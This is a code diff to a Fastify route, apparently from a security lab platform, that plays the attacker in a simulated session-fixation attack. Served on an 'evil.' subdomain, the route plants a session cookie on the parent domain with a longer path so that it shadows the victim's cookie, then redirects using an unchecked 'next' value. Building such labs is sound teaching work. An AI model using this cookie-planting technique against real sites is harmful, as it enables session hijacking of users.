@@ -8,8 +8,9 @@ import type { FastifyPluginAsync } from 'fastify'
  */
 export const plantRoutes: FastifyPluginAsync<{ careless: string }> = async (app, { careless }) => {
   const { host, hostname } = new URL(careless)
-  app.get<{ Params: { attempt: string } }>('/a/:attempt/plant', { config: { endpoint: 'plant' }, constraints: { host: `evil.${host}` } }, async ({ attempt }, reply) => {
-    reply.setCookie('session', attempt.state.kept['planted'] ?? '', { domain: hostname, path: `/a/${attempt.id}/`, sameSite: 'lax' })
-    return reply.redirect(attempt.home, 303)
+  app.get<{ Querystring: { next?: string } }>('/a/:attempt/plant', { config: { endpoint: 'plant' }, constraints: { host: `evil.${host}` } }, async ({ attempt, query }, reply) => {
+    // Cookies of the longer path are sent first: the site finds this one before the one that Alice may have already.
+    reply.setCookie('session', attempt.state.kept['planted'] ?? '', { domain: hostname, path: `/a/${attempt.id}/callback`, sameSite: 'lax' })
+    return reply.redirect(`${attempt.home}${query.next ?? ''}`, 303)
   })
 }
